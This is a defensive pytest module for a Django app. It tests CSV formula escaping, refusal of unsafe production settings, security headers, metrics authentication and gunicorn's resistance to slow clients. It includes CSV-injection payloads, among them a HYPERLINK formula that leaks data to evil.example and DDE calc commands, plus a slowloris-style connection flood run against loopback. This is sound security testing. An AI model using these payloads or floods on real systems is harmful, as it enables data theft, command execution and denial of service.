"""Hostile clients and an unsafe deployment (issue 18): CSV exports that are safe to open in a
spreadsheet, production settings that refuse to start unsafe, the security headers, /metrics
closed outside development, and slow clients that cannot starve gunicorn as deployed.

Every case is a real request or process on loopback: the export endpoints through the API,
`manage.py` in subprocesses with the environments an operator would give it, and gunicorn
started with docker/compose.yml's web command in production mode, facing dozens of slow
connections at once. Counts and waits are bounded by the constants below."""

from __future__ import annotations

import contextlib
import csv
import http.client
import io
import os
import re
import secrets
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from django.test import Client

from tests.conftest import ROOT, api_client, drain, worker_env

SUBMIT = "/api/v1/batch-jobs/submit"
PREVIEW = "/api/v1/batch-jobs/preview"

# Cells a spreadsheet would evaluate, as the issue found them passed through: a phishing link,
# a DDE command, an @-function, arithmetic, and the same hidden behind a tab or a CR.
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open invoice")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+2", "\r=1+2"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")

STRONG_KEY = "x" + secrets.token_urlsafe(60)


# --- CSV exports ---------------------------------------------------------------------------

def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_spreadsheet_safe(rows: list[list[str]], numeric: set[str]) -> None:
    """No cell starts a formula; the only cells starting with '-' are plain numbers in a
    numeric column."""
    header, *body = rows
    for row in body:
        for name, value in zip(header, row, strict=True):
            if value.startswith(TRIGGERS):
                assert name in numeric and PLAIN_NUMBER.fullmatch(value), f"{name}: {value!r} opens as a formula"


def _escaped(stored: str) -> str:
    return "'" + stored if stored.startswith(TRIGGERS) else stored


@pytest.mark.django_db(transaction=True)
def test_results_csv_escapes_uploaded_formulas_and_keeps_numbers(api_users, redis):
    from jobs.models import Transaction

    client = api_client(api_users["alice"])
    items = [{"id": f"T{i}", "date": "2026-01-15", "amount": "-2.50" if i == 0 else "10.00", "currency": "EUR",
              "account": payload, "counterparty": payload, "description": payload, "reference": payload[:100]}
             for i, payload in enumerate(PAYLOADS)]
    items.append({"id": "=1+2", "date": "2026-01-15", "amount": "-0.01", "currency": "EUR"})
    items.append({"id": "-2.50", "date": "2026-01-15", "amount": "7", "currency": "EUR"})
    submitted = client.post(SUBMIT, {"project_id": "alice-audit", "data_type": "transaction", "items": items},
                            format="json")
    assert submitted.status_code == 201, submitted.content
    job_id = submitted.json()["job_id"]
    drain(job_id)

    rows = _csv(client.get(f"/api/v1/batch-jobs/{job_id}/results", {"format": "csv"}))
    header = rows[0]
    assert header[:5] == ["item_index", "external_id", "date", "value_date", "amount"]
    _assert_spreadsheet_safe(rows, numeric={"item_index", "amount"})
    stored = {t.item_index: t for t in Transaction.objects.filter(job_id=job_id)}
    assert len(rows) - 1 == len(stored) == len(items)
    text_columns = ("external_id", "account", "counterparty", "description", "reference")
    for row in rows[1:]:
        cells = dict(zip(header, row, strict=True))
        transaction = stored[int(cells["item_index"])]
        for column in text_columns:
            assert cells[column] == _escaped(getattr(transaction, column)), (column, cells[column])
        # Amounts are numbers by type: written as numbers, negative ones too, so they still sum.
        assert Decimal(cells["amount"]) == transaction.amount and PLAIN_NUMBER.fullmatch(cells["amount"])
    by_id = {dict(zip(header, row, strict=True))["item_index"]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_id["0"]["amount"] == "-2.5" and by_id["0"]["description"] == "'" + PAYLOADS[0]
    assert by_id[str(len(PAYLOADS))]["external_id"] == "'=1+2"
    assert by_id[str(len(PAYLOADS) + 1)]["external_id"] == "'-2.50", "text that looks like a number is text"
    # What was imported is stored as it was written: only the exported copy carries the quote.
    assert stored[0].description == PAYLOADS[0] and stored[len(PAYLOADS)].external_id == "=1+2"


@pytest.mark.django_db(transaction=True)
def test_entity_export_escapes_uploaded_formulas(api_users, redis):
    from jobs.models import EntityName

    client = api_client(api_users["alice"])
    names = [*PAYLOADS, "Acme Holdings Ltd", "=ACME HOLDINGS LIMITED"]
    submitted = client.post(SUBMIT, {"project_id": "alice-audit", "data_type": "entity",
                                     "items": [{"id": f"@N{i}", "name": name} for i, name in enumerate(names)]},
                            format="json")
    assert submitted.status_code == 201, submitted.content
    job_id = submitted.json()["job_id"]
    drain(job_id)

    rows = _csv(client.get(f"/api/v1/batch-jobs/{job_id}/results", {"format": "csv"}))
    _assert_spreadsheet_safe(rows, numeric={"item_index", "group_size"})
    header = rows[0]
    stored = {e.item_index: e for e in EntityName.objects.filter(job_id=job_id)}
    assert stored and len(rows) - 1 == len(stored)
    for row in rows[1:]:
        cells = dict(zip(header, row, strict=True))
        entity = stored[int(cells["item_index"])]
        assert cells["name"] == _escaped(entity.name) and cells["external_id"] == _escaped(entity.external_id)
    exported = {dict(zip(header, row, strict=True))["name"] for row in rows[1:]}
    assert "'" + PAYLOADS[0] in exported and "'=ACME HOLDINGS LIMITED" in exported


@pytest.mark.django_db(transaction=True)
def test_failures_csv_escapes_item_keys_and_messages(api_users, redis):
    from jobs.models import ItemFailure

    client = api_client(api_users["alice"])
    # A currency that is not one: every record fails, keyed by its hostile id.
    items = [{"id": payload, "date": "2026-01-15", "amount": "1.00", "currency": "=X()"} for payload in PAYLOADS]
    submitted = client.post(SUBMIT, {"project_id": "alice-audit", "data_type": "transaction", "items": items},
                            format="json")
    assert submitted.status_code == 201, submitted.content
    job_id = submitted.json()["job_id"]
    drain(job_id)

    rows = _csv(client.get(f"/api/v1/batch-jobs/{job_id}/failures", {"format": "csv"}))
    assert rows[0] == ["item_index", "item_key", "kind", "error_code", "field", "message", "batch_number"]
    _assert_spreadsheet_safe(rows, numeric={"item_index", "batch_number"})
    stored = {f.item_index: f for f in ItemFailure.objects.filter(job_id=job_id)}
    assert len(rows) - 1 == len(stored) == len(PAYLOADS)
    for row in rows[1:]:
        cells = dict(zip(rows[0], row, strict=True))
        failure = stored[int(cells["item_index"])]
        assert cells["item_key"] == _escaped(failure.item_key) and cells["message"] == _escaped(failure.message)
    assert "'" + PAYLOADS[0] in {row[1] for row in rows[1:]}


# --- production settings ---------------------------------------------------------------------

def _manage(args: list[str], env: dict[str, str | None], tmp_path: Path) -> subprocess.CompletedProcess:
    """`manage.py` with exactly this environment (None: unset), nothing inherited but PATH."""
    base = {"PATH": os.environ.get("PATH", ""), "ZENITH_VAR_DIR": str(tmp_path / "var"), "DATABASE_URL": "",
            "REDIS_URL": "redis://127.0.0.1:1/0", "PYTHONDONTWRITEBYTECODE": "1", "ZENITH_LOG_FORMAT": "text"}
    merged = {**base, **env}
    return subprocess.run([sys.executable, "manage.py", *args], cwd=ROOT, capture_output=True, text=True, timeout=120,
                          env={key: value for key, value in merged.items() if value is not None})


PRODUCTION = {"ZENITH_ENV": "production", "SECRET_KEY": STRONG_KEY, "ALLOWED_HOSTS": "zenith.example.com",
              "CSRF_TRUSTED_ORIGINS": "https://zenith.example.com"}

UNSAFE = [
    ("debug", {"DEBUG": "true"}, "DEBUG is on"),
    ("no-key", {"SECRET_KEY": None}, "SECRET_KEY is not set"),
    ("development-key", {"SECRET_KEY": "zenith-dev-insecure-key-change-me"}, "SECRET_KEY is the development key"),
    ("compose-placeholder-key", {"SECRET_KEY": "compose-development-key-change-me"}, "SECRET_KEY is too weak"),
    ("k8s-placeholder-key", {"SECRET_KEY": "CHANGE-ME-to-a-long-random-string"}, "SECRET_KEY is too weak"),
    ("no-hosts", {"ALLOWED_HOSTS": None}, "ALLOWED_HOSTS is not set"),
    ("any-host", {"ALLOWED_HOSTS": "*"}, "ALLOWED_HOSTS contains '*'"),
    ("session-cookie-over-http", {"SESSION_COOKIE_SECURE": "false"}, "SESSION_COOKIE_SECURE is off"),
    ("csrf-cookie-over-http", {"CSRF_COOKIE_SECURE": "false"}, "CSRF_COOKIE_SECURE is off"),
    # A deployment that says DEBUG=false but not ZENITH_ENV is production all the same.
    ("debug-false-means-production", {"ZENITH_ENV": None, "DEBUG": "false", "SECRET_KEY": None},
     "SECRET_KEY is not set"),
]


@pytest.mark.heavy
@pytest.mark.parametrize("overrides,expected", [(o, e) for _, o, e in UNSAFE], ids=[name for name, _, _ in UNSAFE])
def test_production_refuses_to_start_unsafe_with_one_line(tmp_path, overrides, expected):
    result = _manage(["check"], {**PRODUCTION, **overrides}, tmp_path)
    assert result.returncode != 0
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr[-3000:]
    assert lines[0].startswith("zenith: refusing to start with ZENITH_ENV=production: ") and expected in lines[0]
    assert "Traceback" not in result.stderr and not result.stdout.strip()


@pytest.mark.heavy
def test_check_deploy_is_clean_under_the_documented_production_environment(tmp_path):
    """The Kubernetes ConfigMap plus a real Secret: what README.md's "Production environment"
    lists. And with nothing set at all (`make run`, the test suite), development starts."""
    configmap = yaml.safe_load((ROOT / "docker" / "k8s" / "configmap.yaml").read_text())["data"]
    assert configmap["ZENITH_ENV"] == "production"
    environment = {**configmap, "SECRET_KEY": STRONG_KEY, "ZENITH_METRICS_TOKEN": secrets.token_urlsafe(32)}
    result = _manage(["check", "--deploy", "--fail-level", "WARNING"], environment, tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues" in result.stdout, result.stdout + result.stderr

    development = _manage(["check"], {}, tmp_path)
    assert development.returncode == 0, development.stderr[-3000:]


# --- gunicorn as deployed, in production mode ------------------------------------------------

HEADER_TIMEOUT, IDLE_TIMEOUT = 4, 6  # seconds, short so that the test sees them end connections
HOST = "localhost"


@contextlib.contextmanager
def production_gunicorn(tmp_path: Path, **env) -> Iterator[int]:
    """docker/compose.yml's web command (two processes of four threads), production settings,
    TLS assumed to end in front (requests say so with X-Forwarded-Proto), on a loopback port."""
    from jobs.management.commands.zenith_up import free_port

    argv = yaml.safe_load((ROOT / "docker" / "compose.yml").read_text())["services"]["web"]["command"]
    assert argv[0] == "gunicorn"
    port = free_port(18791)
    argv = [sys.executable, "-m", "gunicorn", *argv[1:]]
    argv[argv.index("--bind") + 1] = f"127.0.0.1:{port}"
    log_path = tmp_path / "web.log"
    server_env = worker_env(PROMETHEUS_MULTIPROC_DIR=None, ZENITH_ENV="production", SECRET_KEY=STRONG_KEY,
                            ALLOWED_HOSTS=HOST, CSRF_TRUSTED_ORIGINS=f"https://{HOST}", ZENITH_LOG_FORMAT="text",
                            ZENITH_CLIENT_HEADER_TIMEOUT=HEADER_TIMEOUT, ZENITH_CLIENT_IDLE_TIMEOUT=IDLE_TIMEOUT,
                            **env)
    with open(log_path, "w") as log:
        server = subprocess.Popen(argv, cwd=ROOT, env=server_env, stdout=log, stderr=subprocess.STDOUT,
                                  start_new_session=True)
    try:
        deadline = time.monotonic() + 30
        while True:
            assert server.poll() is None, log_path.read_text()[-3000:]
            try:
                if _get(port, "/healthz", timeout=1)[0] == 200:
                    break
            except OSError:
                pass
            assert time.monotonic() < deadline, f"gunicorn did not answer: {log_path.read_text()[-3000:]}"
            time.sleep(0.2)
        yield port
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(server.pid, signal.SIGTERM)
        try:
            server.wait(20)
        except subprocess.TimeoutExpired:
            os.killpg(server.pid, signal.SIGKILL)
            server.wait(10)


def _get(port: int, path: str, headers: dict | None = None, timeout: float = 10):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request("GET", path, headers={"Host": HOST, **(headers or {})})
        response = conn.getresponse()
        return response.status, dict(response.getheaders()), response.read()
    finally:
        conn.close()


HTTPS = {"X-Forwarded-Proto": "https"}


@pytest.mark.heavy
@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
def test_production_headers_redirect_cookies_and_metrics_token(tmp_path):
    token = secrets.token_urlsafe(32)
    with production_gunicorn(tmp_path, ZENITH_METRICS_TOKEN=token) as port:
        status, headers, body = _get(port, "/accounts/login/", HTTPS)
        assert status == 200, body[:500]
        policy = headers["Content-Security-Policy"]
        directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
        assert directives["default-src"] == "'self'" and directives["object-src"] == "'none'"
        assert directives["frame-ancestors"] == "'none'" and directives["form-action"] == "'self'"
        # A nonce only where a page uses one (django-csp adds it then); hashes of django-rq's blocks.
        assert re.fullmatch(r"'self'( 'nonce-[A-Za-z0-9+/=]+')?( 'sha256-[A-Za-z0-9+/=]+')*", directives["script-src"])
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        assert headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
        assert "; Secure" in headers["Set-Cookie"] and "csrftoken=" in headers["Set-Cookie"]

        # Plain HTTP is sent to HTTPS, but for the probes and the scrape, which come from inside.
        status, headers, _ = _get(port, "/accounts/login/")
        assert status == 301 and headers["Location"] == f"https://{HOST}/accounts/login/"
        assert _get(port, "/healthz")[0] == 200

        status, headers, _ = _get(port, "/metrics")
        assert status == 401 and headers["WWW-Authenticate"].startswith("Bearer")
        assert _get(port, "/metrics", {"Authorization": "Bearer wrong"})[0] == 401
        status, _, body = _get(port, "/metrics", {"Authorization": f"Bearer {token}"})
        assert status == 200 and b"zenith_backlog_batches" in body


@pytest.mark.django_db
def test_metrics_are_closed_outside_development_without_a_token(settings):
    settings.ZENITH_METRICS_TOKEN = ""
    settings.ZENITH_ENV = "production"
    response = Client().get("/metrics")
    assert response.status_code == 403 and b"ZENITH_METRICS_TOKEN" in response.content
    settings.ZENITH_ENV = "development"
    assert Client().get("/metrics").status_code == 200


@pytest.mark.django_db
def test_every_page_has_the_content_security_policy_in_development_too():
    response = Client().get("/accounts/login/")
    assert response.status_code == 200
    assert "default-src 'self'" in response["Content-Security-Policy"]
    assert "Strict-Transport-Security" not in response  # HSTS only where there is HTTPS: production


# --- slow clients --------------------------------------------------------------------------

SLOW = 48  # connections of each kind below, six times what the deployment has threads for
LINGERING = 16
HEALTHZ_CHECKS = 10
HEALTHZ_BOUND = 1.0  # seconds: what an orchestrator's probe tolerates, with room to spare


# The first bytes of a 1 MB file upload whose sender then stops.
STALLED_BODY_START = (b"--zenith-slow\r\nContent-Disposition: form-data; name=\"file\"; filename=\"ledger.csv\"\r\n"
                      b"Content-Type: text/csv\r\n\r\nid,date,amount\r\n")


def _connect(port: int) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 * 1024)
    return sock


def _upload_head(token: str | None, length: int, path: str = PREVIEW, boundary: str = "zenith-slow",
                 extra: str = "") -> bytes:
    """The headers of a multipart upload, as the TLS-terminating proxy passes them on."""
    auth = f"Authorization: Token {token}\r\n" if token else ""
    return (f"POST {path} HTTP/1.1\r\nHost: {HOST}\r\nX-Forwarded-Proto: https\r\n{auth}"
            f"Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {length}\r\n{extra}\r\n"
            ).encode()


def _answer(sock: socket.socket, timeout: float) -> bytes:
    """Everything the server sends until it closes, or until `timeout` seconds pass."""
    sock.settimeout(max(timeout, 0.5))
    data = b""
    with contextlib.suppress(TimeoutError, ConnectionError):
        while chunk := sock.recv(4096):
            data += chunk
    return data


def _still_waiting(sock: socket.socket) -> bool:
    """Open, and nothing answered yet."""
    sock.setblocking(False)
    try:
        sock.recv(1)
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        sock.setblocking(True)
    return False


@pytest.mark.heavy
@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
def test_slow_clients_do_not_starve_gunicorn_as_deployed(api_users, tmp_path):
    """Unfinished headers, stalled uploads, silent connections and clients that never close
    after their answer, dozens of each at once: /healthz and a real preview keep answering
    within the bound while the server holds them all; then each is ended by its timeout,
    with a 408 naming the setting. Bodies declared over the limit are refused unread (413),
    bodies without a length (chunked) with 411."""
    token = api_users["alice"].auth_token.key
    opened: list[socket.socket] = []
    with production_gunicorn(tmp_path) as port:
        try:
            started = time.monotonic()
            unfinished, stalled, silent = [], [], []
            for _ in range(SLOW):
                sock = _connect(port)
                sock.sendall(f"GET /healthz HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ".encode())
                unfinished.append(sock)
                sock = _connect(port)
                sock.sendall(_upload_head(token, 1024 * 1024) + STALLED_BODY_START)
                stalled.append(sock)
                silent.append(_connect(port))
            for _ in range(LINGERING):  # answered, told to close, and never close
                sock = _connect(port)
                sock.sendall(f"GET /healthz HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n".encode())
                opened.append(sock)
            opened += unfinished + stalled + silent
            time.sleep(0.5)  # every connection accepted and waiting

            timings = []
            for _ in range(HEALTHZ_CHECKS):
                began = time.monotonic()
                status, _, _ = _get(port, "/healthz", timeout=5)
                timings.append(time.monotonic() - began)
                assert status == 200
            assert max(timings) < HEALTHZ_BOUND, timings

            # Real work goes on too: a small preview upload, answered in full.
            body = (b"--b\r\nContent-Disposition: form-data; name=\"project_id\"\r\n\r\nalice-audit\r\n"
                    b"--b\r\nContent-Disposition: form-data; name=\"data_type\"\r\n\r\ntransaction\r\n"
                    b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"l.csv\"\r\n"
                    b"Content-Type: text/csv\r\n\r\nid,date,amount,currency\r\nT1,2026-01-15,10.50,EUR\r\n--b--\r\n")
            began = time.monotonic()
            sock = _connect(port)
            opened.append(sock)
            sock.sendall(_upload_head(token, len(body), boundary="b", extra="Connection: close\r\n") + body)
            answer = _answer(sock, 10)
            assert answer.startswith(b"HTTP/1.1 200") and b"T1" in answer, answer[:500]
            assert time.monotonic() - began < HEALTHZ_BOUND * 3
            assert time.monotonic() - started < HEADER_TIMEOUT, "measured while every slow client was held"
            assert all(_still_waiting(sock) for sock in unfinished + stalled + silent)

            # Then each kind is ended by its own timeout, the event loop's doing, not a thread's.
            for sock in unfinished:
                answer = _answer(sock, HEADER_TIMEOUT + 3 - (time.monotonic() - started))
                assert answer.startswith(b"HTTP/1.1 408") and b"ZENITH_CLIENT_HEADER_TIMEOUT" in answer, answer
            for sock in silent:
                assert _answer(sock, HEADER_TIMEOUT + 3 - (time.monotonic() - started)) == b""
            for sock in stalled:
                answer = _answer(sock, IDLE_TIMEOUT + 3 - (time.monotonic() - started))
                assert answer.startswith(b"HTTP/1.1 408") and b"ZENITH_CLIENT_IDLE_TIMEOUT" in answer, answer
        finally:
            for sock in opened:
                sock.close()

        # A body declared over the limit is refused from its headers, on every upload path.
        declared = 5 * 1024 ** 3
        for path, auth in ((PREVIEW, token), (SUBMIT, token), ("/jobs/new/", None)):
            sock = _connect(port)
            try:
                began = time.monotonic()
                sock.sendall(_upload_head(auth, declared, path=path))
                answer = _answer(sock, 5)
            finally:
                sock.close()
            assert answer.startswith(b"HTTP/1.1 413") and b"ZENITH_MAX_UPLOAD_BYTES" in answer, (path, answer[:300])
            assert time.monotonic() - began < 2, path

        sock = _connect(port)
        try:
            sock.sendall(f"POST {PREVIEW} HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n".encode())
            assert _answer(sock, 5).startswith(b"HTTP/1.1 411")
        finally:
            sock.close()
        assert _get(port, "/healthz")[0] == 200


# --- the pages under the policy, in a real browser -----------------------------------------

@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_pages_and_scripts_work_under_the_content_security_policy(api_users, redis, live_server, chromium):
    """Every page Zenith serves, its own scripts running (the job page's live progress), the
    API docs and the admin, without one policy violation in the browser's console."""
    from django.contrib.auth import get_user_model

    get_user_model().objects.create_superuser("root", "root@example.com", "pw")
    client = api_client(api_users["alice"])
    items = [{"id": f"T{i}", "date": "2026-01-15", "amount": "10.00", "currency": "EUR"} for i in range(20)]
    finished = client.post(SUBMIT, {"project_id": "alice-audit", "data_type": "transaction", "items": items},
                           format="json").json()["job_id"]
    drain(finished)
    running = client.post(SUBMIT, {"project_id": "alice-audit", "data_type": "transaction", "items": items},
                          format="json").json()["job_id"]
    violations: list[tuple[str, str]] = []
    for username in ("alice", "root"):
        page = chromium.new_page()
        page.on("console", lambda message, page=page: violations.append((page.url, message.text))
                if "Content Security Policy" in message.text else None)
        page.goto(f"{live_server.url}/accounts/login/")
        page.fill("input[name=username]", username)
        page.fill("input[name=password]", "pw")
        page.click("main button[type=submit]")
        page.wait_for_url(f"{live_server.url}/")
        paths = ["/", "/jobs/", "/jobs/new/", f"/jobs/{finished}/", f"/jobs/{running}/", "/api/docs/"]
        if username == "root":
            paths = ["/admin/", "/admin/jobs/processingjob/", "/admin/django_rq/dashboard/",
                     "/admin/django_rq/dashboard/queues/0/"]
        for path in paths:
            page.goto(f"{live_server.url}{path}")
            page.wait_for_load_state("networkidle")
        if username == "alice":
            page.goto(f"{live_server.url}/api/docs/")
            page.wait_for_selector(".swagger-ui .info", timeout=20_000)  # its inline script ran
            page.goto(f"{live_server.url}/jobs/{running}/")
            # job.js polls progress.json: its request reaching the server proves it runs.
            with page.expect_response(lambda r: r.url.endswith("/progress.json"), timeout=10_000):
                pass
        page.close()
    assert not violations, violations
